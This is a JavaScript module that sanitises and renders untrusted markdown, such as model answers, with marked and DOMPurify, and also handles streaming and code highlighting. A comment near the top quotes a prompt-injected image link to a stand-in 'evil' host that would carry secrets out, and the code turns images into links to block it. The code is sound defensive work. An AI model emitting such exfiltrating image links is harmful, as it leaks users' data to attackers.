// Markdown for untrusted text (model output, user input): marked renders, DOMPurify
// sanitises, and only http(s), mailto, relative and #fragment URLs survive.
import { Marked } from "../vendor/marked-18.2.1/marked.esm.js";
import DOMPurify from "../vendor/dompurify-3.4.18/purify.es.mjs";
import hljs from "../vendor/highlight.js-11.12.0/highlight.min.js";
import { _ } from "./i18n.js";

// Images never load from an answer: a prompt-injected `![](https://evil/?q=<secret>)`
// would send data away, and a same-origin src would fire a GET as the reader. An
// image becomes a link the reader may choose to open.
const escapeHtml = (text) =>
  text.replace(/[&<>"']/g, (c) => ({ "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" })[c]);

const marked = new Marked({
  gfm: true,
  breaks: false,
  renderer: {
    image({ href, text }) {
      return `<a href="${escapeHtml(href || "")}">🖼 ${escapeHtml(text || _("image"))}</a>`;
    },
  },
});
// http(s), mailto, #fragments, and relative paths (never protocol-relative //host)
const SAFE_URL = /^(?:https?:|mailto:|#|\/(?!\/)|\.{1,2}\/|[^:/?#]+(?:[/?#]|$))/i;

DOMPurify.addHook("afterSanitizeAttributes", (node) => {
  for (const name of ["href", "src", "xlink:href", "action", "formaction"]) {
    if (node.hasAttribute(name) && !SAFE_URL.test(node.getAttribute(name).trim())) {
      node.removeAttribute(name);
    }
  }
  if (node.tagName === "A" && node.hasAttribute("href")) {
    node.setAttribute("target", "_blank");
    node.setAttribute("rel", "noopener noreferrer nofollow");
  }
});

const PURIFY = {
  USE_PROFILES: { html: true },
  FORBID_TAGS: [
    "style", "form", "input", "button", "textarea", "select", "iframe", "object", "embed", "svg", "math",
    "img", "picture", "source", "video", "audio", "track", "link", "meta", "base",
  ],
  FORBID_ATTR: ["style", "srcset"],
  // an answer's id="..." must not shadow the page's own elements
  SANITIZE_NAMED_PROPS: true,
};

export function renderMarkdown(text) {
  return DOMPurify.sanitize(marked.parse(text), PURIFY);
}

export function highlightIn(element) {
  for (const block of element.querySelectorAll("pre code")) {
    if (!block.dataset.highlighted) hljs.highlightElement(block);
    const pre = block.parentElement;
    if (!pre.querySelector(".copy")) {
      const button = document.createElement("button");
      button.type = "button";
      button.className = "copy";
      button.textContent = _("Copy");
      button.addEventListener("click", () => navigator.clipboard?.writeText(block.textContent));
      pre.prepend(button);
    }
  }
}

// Where the settled part of a streaming text ends: after the last blank line that
// is not inside an open ``` fence. Everything before it is rendered once; only the
// tail is rendered again as deltas arrive, so the work per delta grows with the
// delta and the last block, not with the whole answer.
export function settledLength(text) {
  let inFence = false;
  let settled = 0;
  let offset = 0;
  for (const line of text.split("\n")) {
    const end = offset + line.length + 1;
    if (/^\s*(```|~~~)/.test(line)) {
      inFence = !inFence;
      if (!inFence) settled = Math.min(end, text.length);
    } else if (!inFence && line.trim() === "" && end <= text.length) {
      settled = end;
    }
    offset = end;
  }
  return settled;
}

// A live view of one growing markdown text inside `container`. `decorate(element)`, if
// set, is called on each part as it is drawn (the answer's citations made into buttons).
export class StreamingMarkdown {
  constructor(container) {
    this.container = container;
    this.decorate = null;
    this.text = "";
    this.settled = 0;
    this.done = document.createElement("div");
    this.tail = document.createElement("div");
    container.replaceChildren(this.done, this.tail);
  }

  set(text) {
    this.text = "";
    this.settled = 0;
    this.done.replaceChildren();
    this.append(text);
  }

  append(delta) {
    this.text += delta;
    const cut = settledLength(this.text);
    if (cut > this.settled) {
      const block = document.createElement("div");
      block.innerHTML = renderMarkdown(this.text.slice(this.settled, cut));
      highlightIn(block);
      this.decorate?.(block);
      this.done.append(block);
      this.settled = cut;
    }
    this.tail.innerHTML = renderMarkdown(this.text.slice(this.settled));
    this.decorate?.(this.tail);
  }

  finish() {
    highlightIn(this.tail);
  }
}
